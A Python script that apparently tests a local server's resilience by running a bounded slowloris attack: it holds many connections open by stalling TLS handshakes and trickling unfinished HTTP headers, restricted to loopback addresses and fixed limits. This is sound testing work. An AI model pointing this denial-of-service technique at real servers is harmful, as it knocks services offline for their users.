#!/usr/bin/env python3
"""slowloris: the slow-client attack of issue 14, bounded, loopback only.

Opens --per connections from each of --sources (addresses in 127.0.0.0/8,
bound with bind()) to 127.0.0.1:--port and keeps them as slow as it can:
half of them stop inside the TLS handshake (a ClientHello's first bytes,
then one more byte every --interval seconds), the other half complete the
handshake and then send a request header one byte every --interval
seconds, never finishing it.  A connection the server closes is opened
again (at most --per per source and round), as a real attacker would.
Runs --seconds, then prints one line of figures:

  slowloris: opened N, closed or refused by the server N, held min/avg/max A/B/C

"held" counts the connections open at each one-second sample.
"""
import argparse
import errno
import select
import socket
import ssl
import sys
import time

HELLO = bytes.fromhex("16030100f4010000f00303")  # a ClientHello's start
HEADER = (b"GET /healthz HTTP/1.1\r\nHost: muster\r\nX-Slow: "
          + b"a" * 4000)


def loopback(addr):
    return addr.startswith("127.")


class Conn:
    def __init__(self, src, port, tls, ctx):
        self.src, self.tls, self.pos = src, tls, 0
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.bind((src, 0))
        s.settimeout(2)
        s.connect(("127.0.0.1", port))
        if tls:
            s = ctx.wrap_socket(s, server_hostname="muster")
        else:
            s.sendall(HELLO)
        s.setblocking(False)
        self.sock = s

    def trickle(self):
        """One byte more; False when the server has closed."""
        data = HEADER if self.tls else b"\x00" * 4000
        try:
            self.sock.send(data[self.pos % len(data):][:1])
            self.pos += 1
            return True
        except (ssl.SSLWantWriteError, BlockingIOError):
            return True
        except (OSError, ssl.SSLError):
            return False

    def closed(self):
        """True when the server has closed (EOF or reset)."""
        try:
            r, _, _ = select.select([self.sock], [], [], 0)
            if not r:
                return False
            return self.sock.recv(4096) == b""
        except (ssl.SSLWantReadError, BlockingIOError):
            return False
        except (OSError, ssl.SSLError):
            return True

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--sources", required=True,
                    help="comma-separated addresses in 127.0.0.0/8")
    ap.add_argument("--per", type=int, default=60)
    ap.add_argument("--interval", type=float, default=2.0)
    ap.add_argument("--seconds", type=float, default=20.0)
    a = ap.parse_args()
    srcs = a.sources.split(",")
    if not all(loopback(s) for s in srcs) or a.seconds > 120 or \
            a.per * len(srcs) > 2000:
        print("slowloris: loopback sources, at most 120 s and 2000 "
              "connections", file=sys.stderr)
        return 64
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    conns, opened, lost, held = [], 0, 0, []
    want = {s: a.per for s in srcs}
    end = time.monotonic() + a.seconds
    next_sample = time.monotonic() + 1
    while time.monotonic() < end:
        # (Re)open what the server closed, a bounded number per round.
        for src in srcs:
            have = sum(1 for c in conns if c.src == src)
            for i in range(want[src] - have):
                if time.monotonic() >= end:
                    break
                try:
                    conns.append(Conn(src, a.port, (opened + i) % 2 == 0,
                                      ctx))
                    opened += 1
                except (OSError, ssl.SSLError):
                    lost += 1
        keep = []
        for c in conns:
            if c.closed() or not c.trickle():
                lost += 1
                c.close()
            else:
                keep.append(c)
        conns = keep
        now = time.monotonic()
        if now >= next_sample:
            held.append(len(conns))
            next_sample = now + 1
        time.sleep(min(a.interval, max(0.0, end - time.monotonic())))
    for c in conns:
        c.close()
    if not held:
        held = [0]
    print("slowloris: opened %d, closed or refused by the server %d, held min/avg/max "
          "%d/%d/%d" % (opened, lost, min(held), sum(held) // len(held),
                        max(held)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
